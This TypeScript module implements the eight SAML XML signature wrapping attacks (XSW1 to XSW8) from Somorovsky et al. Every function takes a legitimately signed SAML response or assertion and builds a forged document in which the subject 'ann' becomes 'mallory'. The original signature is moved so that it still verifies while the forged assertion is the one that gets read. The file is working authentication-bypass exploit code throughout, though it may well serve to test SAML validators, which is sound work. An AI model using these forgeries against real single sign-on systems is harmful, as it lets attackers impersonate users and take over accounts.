/**
 * Signature wrapping: a document that keeps what was signed somewhere, and shows something else where it is read.
 * The eight forms are those of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012).
 */

/** Makes a forged document from one with a signed response (1, 2) or assertion (3 to 8). */
export type Wrapping = (signed: string) => string;

function part(xml: string, name: string): string {
  const [found = ''] = new RegExp(`<${name}[ >].*</${name}>`, 's').exec(xml) ?? [];
  return found;
}

const signatureIn = (xml: string): string => part(xml, 'ds:Signature');
const without = (xml: string, inner: string): string => xml.replace(inner, () => '');

/** The element as the attacker wants it: of another ID, and for somebody else. */
function forged(xml: string): string {
  return without(xml, signatureIn(xml))
    .replace(/ ID="[^"]*"/, ' ID="_forged"')
    .replaceAll('>ann<', '>mallory<');
}

/** Signature with something put into it. */
function filled(signature: string, inner: string, wrap = ''): string {
  const [open, close] = wrap === '' ? ['', ''] : [`<${wrap}>`, `</${wrap}>`];
  return signature.replace('</ds:Signature>', () => `${open}${inner}${close}</ds:Signature>`);
}

/** A forged assertion with the signature behind its issuer. */
function withSignature(assertion: string, signature: string): string {
  return assertion.replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`);
}

/** Each form by its usual name; `of` says what has to be signed. */
export const wrappings: Readonly<Record<string, { readonly of: 'response' | 'assertion'; readonly wrap: Wrapping }>> = {
  XSW1: {
    of: 'response',
    wrap(signed) {
      const signature = signatureIn(signed);
      const fake = forged(signed).replaceAll(/<saml:Assertion ID="[^"]*"/g, '<saml:Assertion ID="_forged2"');
      return withSignature(fake, filled(signature, without(signed, signature), 'ds:Object'));
    },
  },
  XSW2: {
    of: 'response',
    wrap(signed) {
      const signature = signatureIn(signed);
      const fake = forged(signed).replaceAll(/<saml:Assertion ID="[^"]*"/g, '<saml:Assertion ID="_forged2"');
      return withSignature(fake, without(signed, signature) + signature);
    },
  },
  XSW3: {
    of: 'assertion',
    wrap(signed) {
      const assertion = part(signed, 'saml:Assertion');
      return signed.replace(assertion, () => forged(assertion) + assertion);
    },
  },
  XSW4: {
    of: 'assertion',
    wrap(signed) {
      const assertion = part(signed, 'saml:Assertion');
      const evil = forged(assertion).replace('</saml:Assertion>', () => `${assertion}</saml:Assertion>`);
      return signed.replace(assertion, () => evil);
    },
  },
  XSW5: {
    of: 'assertion',
    wrap(signed) {
      const assertion = part(signed, 'saml:Assertion');
      const signature = signatureIn(assertion);
      const evil = withSignature(forged(assertion), signature);
      return signed.replace(assertion, () => evil + without(assertion, signature));
    },
  },
  XSW6: {
    of: 'assertion',
    wrap(signed) {
      const assertion = part(signed, 'saml:Assertion');
      const signature = signatureIn(assertion);
      const evil = withSignature(forged(assertion), filled(signature, without(assertion, signature)));
      return signed.replace(assertion, () => evil);
    },
  },
  XSW7: {
    of: 'assertion',
    wrap(signed) {
      const assertion = part(signed, 'saml:Assertion');
      const evil = `<samlp:Extensions>${forged(assertion)}</samlp:Extensions>`;
      return signed.replace(assertion, () => evil + assertion);
    },
  },
  XSW8: {
    of: 'assertion',
    wrap(signed) {
      const assertion = part(signed, 'saml:Assertion');
      const signature = signatureIn(assertion);
      const evil = withSignature(forged(assertion), filled(signature, without(assertion, signature), 'ds:Object'));
      return signed.replace(assertion, () => evil);
    },
  },
};
